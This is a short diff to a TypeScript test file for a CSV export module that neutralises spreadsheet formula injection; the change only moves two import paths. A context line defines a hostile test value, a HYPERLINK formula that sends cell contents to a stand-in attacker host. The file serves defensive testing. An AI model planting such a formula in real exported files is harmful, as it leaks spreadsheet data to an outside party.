@@ -2,8 +2,8 @@
 // a leading ' and numbers left alone, and the same rule as the export SQL on DuckDB, value for value.
 import { DuckDBInstance } from '@duckdb/node-api';
 import { describe, expect, it } from 'vitest';
-import { readSql } from '../jobs/sql/sql-files.ts';
-import { toDuckDb } from '../jobs/sql/to-duckdb.ts';
+import { readSql } from './warehouse/sql-files.ts';
+import { toDuckDb } from './warehouse/to-duckdb.ts';
 import { CSV_BOM, csvField, neutraliseFormula, toCsv } from './csv.ts';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)';
